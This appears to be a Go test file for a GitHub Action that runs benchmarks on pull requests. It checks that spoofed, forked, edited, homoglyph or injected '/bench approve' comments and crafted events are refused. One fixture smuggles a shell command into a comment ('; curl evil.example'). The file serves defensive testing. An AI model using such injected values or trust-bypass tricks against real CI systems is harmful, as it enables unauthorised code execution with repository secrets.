package actioncli_test

import (
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/ghx-dev/bench-action/internal/sandbox"
	"github.com/ghx-dev/bench-action/internal/sandbox/model"
	"github.com/ghx-dev/bench-action/internal/sandbox/sandboxtest"
)

// ofStranger has something be said on a fork's pull request, and the action read it.
func ofStranger(does func(r *runner)) func(*testing.T) (*runner, ended) {
	return func(t *testing.T) (*runner, ended) {
		r := newRunner(t)
		r.forked()
		r.trusted()
		does(r)
		return r, r.run()
	}
}

// says has somebody comment. HEAD is the head commit.
func says(login, body string) func(*testing.T) (*runner, ended) {
	return ofStranger(func(r *runner) { r.commented(login, strings.ReplaceAll(body, "HEAD", r.head)) })
}

// saysWith is [says] of a writer who approves, with another event.
func saysWith(change func(event map[string]any)) func(*testing.T) (*runner, ended) {
	return ofStranger(func(r *runner) {
		r.commented("writer", "/bench approve "+r.head)
		text, err := os.ReadFile(r.env["GITHUB_EVENT_PATH"])
		require.NoError(r.t, err)
		var event map[string]any
		require.NoError(r.t, json.Unmarshal(text, &event))
		change(event)
		r.event("issue_comment", event)
	})
}

func attacksWithComments() []attack {
	comment := func(event map[string]any) map[string]any { return event["comment"].(map[string]any) }
	const ignored, notAllowed, slip = "ignore", "it needs write permission", "👎"
	return []attack{
		{"approves his own commit", says("stranger", "/bench approve HEAD"), "", notAllowed},
		{"approves as who may read", says("reader", "/bench approve HEAD"), "", notAllowed},
		{"approves as who may triage", says("triager", "/bench approve HEAD"), "", notAllowed},
		{"has a writer run his commit", says("writer", "/bench run"), "", "nobody has approved it"},
		{"has a writer run it with a profile", says("writer", "/bench run verify_pr --repetitions 3"), "", "nobody has approved it"},
		{"makes a commit that begins like the one that was read", says("writer", "/bench approve 0d0d0d0"), "", "is part of a commit's name"},
		{"has a branch approved, and pushes", says("writer", "/bench approve main"), "", "is no commit"},
		{"has another commit approved", says("writer", "/bench approve "+strings.Repeat("0d", 20)), "", "is not the head of this pull request"},
		{"pushes when it was approved", func(t *testing.T) (*runner, ended) {
			return ofStranger(func(r *runner) {
				r.commented("writer", "/bench approve "+r.head)
				r.head = r.world.As("stranger").Do("PUT", forkPath+"/contents/c", `{"message":"worse","content":"eA==","branch":"main"}`).Text("commit.sha")
			})(t)
		}, "", "is not the head of this pull request"},
		{"has the commit of another pull request approved here", func(t *testing.T) (*runner, ended) {
			return ofStranger(func(r *runner) {
				of, head := r.pull, r.head
				r.branch("another", "d")
				r.pull, r.head = of, head
				r.commented("writer", "/bench approve "+r.world.As("owner").Get(sandboxtest.Path+"/branches/another").Text("commit.sha"))
			})(t)
		}, "", "is not the head of this pull request"},
		{"has a closed one approved", func(t *testing.T) (*runner, ended) {
			return ofStranger(func(r *runner) {
				r.world.As("owner").Do("PATCH", fmt.Sprint(sandboxtest.Path, "/pulls/", r.pull), `{"state":"closed"}`)
				r.commented("writer", "/bench approve "+r.head)
			})(t)
		}, "", "is closed"},
		{"has it quoted", says("writer", "> /bench approve HEAD"), "", ignored},
		{"has it in a fence", says("writer", "```\n/bench approve HEAD\n```"), "", ignored},
		{"has it in code", says("writer", "    /bench approve HEAD"), "", ignored},
		{"has it in a list", says("writer", "- /bench approve HEAD"), "", ignored},
		{"has it below something else", says("writer", "What about this?\n/bench approve HEAD"), "", ignored},
		{"has it hidden", says("writer", "<!-- -->/bench approve HEAD"), "", ignored},
		{"has it with letters that look like it", says("writer", "/bеnch approve HEAD"), "", ignored},
		{"has it with a space that is none", says("writer", "/bench\u00a0approve HEAD"), "", slip},
		{"has a shell read it", says("writer", "/bench approve HEAD; curl evil.example"), "", slip},
		{"edits a writer's comment", saysWith(func(e map[string]any) { e["action"] = "edited" }), "", ignored},
		{"has edited it before it was read", saysWith(func(e map[string]any) { comment(e)["updated_at"] = "2031-01-01T00:00:00Z" }), "", ignored},
		{"has a bot say it", saysWith(func(e map[string]any) { comment(e)["user"].(map[string]any)["type"] = "Bot" }), "", ignored},
		{"has an App say it in a writer's name", saysWith(func(e map[string]any) { comment(e)["performed_via_github_app"] = map[string]any{"id": 5} }), "", ignored},
		{"sends it for a writer", saysWith(func(e map[string]any) { e["sender"] = map[string]any{"login": "stranger", "type": "User"} }), "", ignored},
		{"says it on an issue", saysWith(func(e map[string]any) { delete(e["issue"].(map[string]any), "pull_request") }), "", ignored},
		{"says that he is its owner", saysWith(func(e map[string]any) {
			comment(e)["author_association"] = "OWNER"
			comment(e)["user"], e["sender"] = map[string]any{"login": "stranger", "type": "User"}, map[string]any{"login": "stranger", "type": "User"}
		}), "", notAllowed},
		{"measures once, as a writer", func(t *testing.T) (*runner, ended) {
			r := newRunner(t)
			r.commented("writer", "/bench run --repetitions 1")
			return r, r.run()
		}, "", "bench (partial)"},
		{"measures something easy, as a writer", func(t *testing.T) (*runner, ended) {
			r := newRunner(t)
			r.commented("writer", "/bench run pr-view-001")
			return r, r.run()
		}, "", "bench (partial)"},
		{"pushes after a writer has asked", func(t *testing.T) (*runner, ended) {
			r := newRunner(t)
			r.commented("writer", "/bench run")
			r.head = r.world.As("owner").Do("PUT", sandboxtest.Path+"/contents/b", `{"message":"worse","content":"eA==","branch":"change"}`).Text("commit.sha")
			r.world.AddToken("ci", sandbox.Token{App: "github-actions", Permissions: map[string]string{"checks": "write"}})
			r.world.With("ci").Do("POST", sandboxtest.Path+"/check-runs", map[string]string{"name": "other", "head_sha": r.head})
			return r, r.run()
		}, "", "there was a push after your comment"},
	}
}

// pullWith has a pull request of the repository's own with a change to its event.
func pullWith(change map[string]any, does ...func(r *runner)) func(*testing.T) (*runner, ended) {
	return func(t *testing.T) (*runner, ended) {
		r := newRunner(t)
		r.inputs["scenarios"] = "pr-merge-001"
		r.pullRequest("opened", change)
		for _, do := range does {
			do(r)
		}
		return r, r.run()
	}
}

func attacksWithEvents() []attack {
	// push adds a commit to the pull request's branch.
	push := func(message string) func(*runner) {
		return func(r *runner) {
			body := map[string]string{"message": message, "content": "eA==", "branch": "change"}
			r.head = r.world.As("owner").Do("PUT", sandboxtest.Path+"/contents/e", body).Text("commit.sha")
			r.pullRequest("synchronize", map[string]any{"user": map[string]any{"login": "dependabot[bot]", "type": "Bot"}})
		}
	}
	compared := func(r *runner) {
		maps.Copy(r.inputs, map[string]string{"baseline-mode": "ghx@base", "modes": "ghx@base,ghx", "base-ghx-command": "sh", "repetitions": "1"})
	}
	// also opens a pull request of the same branch into another one.
	also := func(r *runner) {
		r.world.Change(func(s *model.State, repo *model.Repo) {
			main, _ := s.BranchHead(repo, "main")
			require.NoError(r.t, s.CreateRef(repo.OwnerID, repo, "refs/heads/bad", main))
		})
		second := r.world.As("owner").Do("POST", sandboxtest.Path+"/pulls", `{"title":"To a bad base","head":"change","base":"bad"}`)
		require.Equal(r.t, 201, second.Status, second.Body)
	}
	return []attack{
		{"opens it into a bad branch, too, with which it was compared", pullWith(nil, compared, also), refused, "the commit is another pull request's too"},
		{"opens it into a bad branch, which nothing is compared with", pullWith(nil, also), "neutral", allPassed},
		{"opens it into another branch once it was approved", ofStranger(func(r *runner) {
			compared(r)
			r.commented("writer", "/bench approve "+r.head)
			approved := r.run()
			require.Zero(r.t, approved.code, approved.log)
			require.NotEqual(r.t, refused, r.checks()[0]["conclusion"])
			r.world.Change(func(s *model.State, repo *model.Repo) {
				main, _ := s.BranchHead(repo, "main")
				require.NoError(r.t, s.CreateRef(repo.OwnerID, repo, "refs/heads/good", main))
			})
			second := r.world.As("stranger").Do("POST", sandboxtest.Path+"/pulls", `{"title":"x","head":"stranger:main","base":"good"}`)
			require.Equal(r.t, 201, second.Status, second.Body)
			r.ranElsewhere(ofFork())
		}), refused, "a fork's commit needs approval"},
		{"edits the title while it is measured", pullWith(nil, func(r *runner) {
			r.pullRequest("edited", nil)
		}), "", "Nothing was edited that is measured"},
		{"asks in the title for nothing to be measured", pullWith(map[string]any{"title": "A change [skip bench]"}), "neutral", allPassed},
		{"asks for it in a fork's commit", ofStranger(func(r *runner) { r.ranElsewhere(ofFork()) }), refused, "a fork's commit needs approval"},
		{"asks for it with what Dependabot has read", pullWith(nil, push("Bump x\n\nRelease notes: [skip bench]")), "neutral", allPassed},
		{"makes it a draft", pullWith(map[string]any{"draft": true}), refused, "a draft"},
		{"says that it touches nothing", ofStranger(func(r *runner) {
			r.inputs["paths"] = "b"
			r.ranElsewhere(ofFork())
		}), refused, "a fork's commit needs approval"},
		{"measures himself, in a fork that may write", func(t *testing.T) (*runner, ended) {
			r := newRunner(t)
			r.forked()
			r.trusted() // private repositories can give forks such a token
			return r, r.run()
		}, refused, "CAN'T TELL: unverified"},
		{"measures himself, where that cannot be told passes", func(t *testing.T) (*runner, ended) {
			r := newRunner(t)
			r.inputs["on-no-verdict"] = "neutral"
			r.forked()
			r.trusted()
			return r, r.run()
		}, refused, "CAN'T TELL: unverified"},
		{"has a fork's job succeed", ofStranger(func(r *runner) {
			change := ofFork()
			change["conclusion"] = "success"
			r.ranElsewhere(change)
		}), refused, "a fork's commit needs approval"},
		{"has a fork's job not begin", ofStranger(func(r *runner) {
			change := ofFork()
			change["conclusion"] = "skipped"
			r.ranElsewhere(change)
		}), refused, "a fork's commit needs approval"},
		{"deletes his fork", ofStranger(func(r *runner) { r.ranElsewhere(map[string]any{"head_repository": nil}) }), refused, "a fork's commit needs approval"},
		{"has his code run with our secrets", ofStranger(func(r *runner) { r.env["GITHUB_EVENT_NAME"] = "pull_request_target" }), refused, "must not run in it"},
		{"is Dependabot, without secrets", pullWith(nil, func(r *runner) {
			r.ofModel()
			r.env["GITHUB_ACTOR"] = "dependabot[bot]"
		}), refused, "Dependabot started the run"},
		{"gives inputs that nobody can read", pullWith(nil, func(r *runner) { r.inputs["repetitions"] = "-1" }), refused, "repetitions"},
		{"gives inputs that nobody can read, in a draft", pullWith(map[string]any{"draft": true}, func(r *runner) { r.inputs["on-no-verdict"] = "success" }), refused, "on-no-verdict"},
		{"has nothing to build", pullWith(nil, func(r *runner) {
			r.builds = true
			r.inputs["build-command"] = "echo nothing to see; exit 1"
		}), "failure", "nothing to see"},
		{"is in a queue with a title that asks for nothing", func(t *testing.T) (*runner, ended) {
			r := newRunner(t)
			r.inputs["scenarios"] = "pr-merge-001"
			r.event("merge_group", map[string]any{"action": "checks_requested", "merge_group": map[string]any{
				"head_sha": r.head, "base_sha": r.head, "base_ref": "refs/heads/main", "head_commit": map[string]any{"message": "A change [skip bench] (#1)"},
			}})
			return r, r.run()
		}, "neutral", allPassed},
	}
}
